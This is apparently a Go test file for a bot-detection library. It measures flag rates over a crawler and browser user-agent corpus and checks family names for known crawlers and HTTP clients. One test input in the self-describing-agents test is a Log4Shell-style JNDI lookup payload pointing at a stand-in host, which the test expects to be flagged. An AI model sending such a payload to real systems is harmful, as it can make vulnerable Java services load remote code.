package bots

import (
	"encoding/json"
	"os"
	"testing"
)

// corpus is what scripts/bots-corpus.sh fetched: agents from lists this
// package was not built from. Under CI=true a missing corpus fails.
type corpus struct {
	Sources                map[string]string `json:"sources"`
	Crawlers               []string          `json:"crawlers"`
	Browsers               []string          `json:"browsers"`
	DeviceDetectorBrowsers []string          `json:"device_detector_browsers"`
}

func loadCorpus(tb testing.TB) corpus {
	tb.Helper()
	b, err := os.ReadFile("../../.cache/bots-corpus/corpus.json")
	if err != nil {
		msg := "no corpus: run scripts/bots-corpus.sh (make test does)"
		if os.Getenv("CI") == "true" {
			tb.Fatal(msg)
		}
		tb.Skip(msg)
	}
	var c corpus
	if err := json.Unmarshal(b, &c); err != nil {
		tb.Fatal(err)
	}
	return c
}

// Crawlers from a list we did not build from: at least 95% flagged. Real
// browsers' agents: none. Device Detector's browser fixtures, which hold
// every browser it knows of (WAP phones, embedded and game-store
// browsers): at most 1 in 1,000.
func TestCorpus(t *testing.T) {
	c := loadCorpus(t)
	d, err := New()
	if err != nil {
		t.Fatal(err)
	}
	flagged := func(uas []string) (n int, which []string) {
		for _, ua := range uas {
			if v := d.Check(Request{Method: "GET", UserAgent: ua, AcceptLanguage: "en-US"}); v.Bot {
				n++
				which = append(which, ua+" => "+v.Family)
			}
		}
		return n, which
	}
	n, _ := flagged(c.Crawlers)
	t.Logf("crawlers (%s): %d of %d flagged (%.1f%%)", c.Sources["crawlers"], n, len(c.Crawlers), 100*float64(n)/float64(len(c.Crawlers)))
	if len(c.Crawlers) < 1000 || float64(n) < 0.95*float64(len(c.Crawlers)) {
		t.Errorf("crawlers: %d of %d flagged, want at least 95%%", n, len(c.Crawlers))
	}
	n, which := flagged(c.Browsers)
	t.Logf("browsers (%s): %d of %d flagged", c.Sources["browsers"], n, len(c.Browsers))
	if len(c.Browsers) < 1000 || n > 0 {
		t.Errorf("real browsers: %d of %d flagged, want none: %q", n, len(c.Browsers), which)
	}
	n, which = flagged(c.DeviceDetectorBrowsers)
	t.Logf("Device Detector's browsers: %d of %d flagged", n, len(c.DeviceDetectorBrowsers))
	if n*1000 > len(c.DeviceDetectorBrowsers) {
		t.Errorf("Device Detector's browsers: %d of %d flagged, want at most 1 in 1,000: %q", n, len(c.DeviceDetectorBrowsers), which)
	}
}

// The agents that the first list missed, as reported: self-describing
// crawlers, a headless browser and a sitemap generator.
func TestSelfDescribingAgents(t *testing.T) {
	d, err := New()
	if err != nil {
		t.Fatal(err)
	}
	for ua, family := range map[string]string{
		"Whoismindbot/1.0 (+http://www.whoismind.com/bot.html)":                                                          "Whoismindbot",
		"StatoolsBot (+http://www.statools.com/bot.html)":                                                                "StatoolsBot",
		"Mozilla/5.0 (compatible; LoadTimeBot/0.9; +http://www.loadtime.net/bot.html)":                                   "LoadTimeBot",
		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Headless Chrome/120.0.0.0 Safari/537.36": "Headless",
		"XmlSitemapGenerator - http://xmlsitemapgenerator.org":                                                           "XmlSitemapGenerator",
		"nrsbot/5.0(loopip.com/robot.html)":                                                                              "nrsbot",
		"python-requests/2.32.3":                                                                                         "python-requests",
		"Go-http-client/1.1":                                                                                             "Go-http-client",
		"okhttp/4.12.0":                                                                                                  "okhttp",
		"Java/17.0.9":                                                                                                    "Java",
		"Mozilla/5.0 (compatible; Dormouse/1.0)":                                                                         "Dormouse",
		"${jndi:ldap://x.example/a}":                                                                                     "",
	} {
		v := d.UserAgent(ua)
		if !v.Bot || family != "" && v.Family != family {
			t.Errorf("%q: %+v, want family %q", ua, v, family)
		}
	}
}

// A new agent costs tens of microseconds (match, the uncached path, over
// the corpus's crawlers and browsers), a cached one tens of nanoseconds.
func BenchmarkCorpus(b *testing.B) {
	c := loadCorpus(b)
	all := append(append([]string{}, c.Crawlers...), c.Browsers...)
	d, err := New()
	if err != nil {
		b.Fatal(err)
	}
	for _, ua := range all { // compile the patterns the corpus needs once
		d.match(ua)
	}
	b.Run("new", func(b *testing.B) {
		b.ReportAllocs()
		for n := 0; b.Loop(); n++ {
			d.match(all[n%len(all)])
		}
	})
	b.Run("cached", func(b *testing.B) {
		b.ReportAllocs()
		for n := 0; b.Loop(); n++ {
			d.UserAgent(all[n%1000])
		}
	})
}
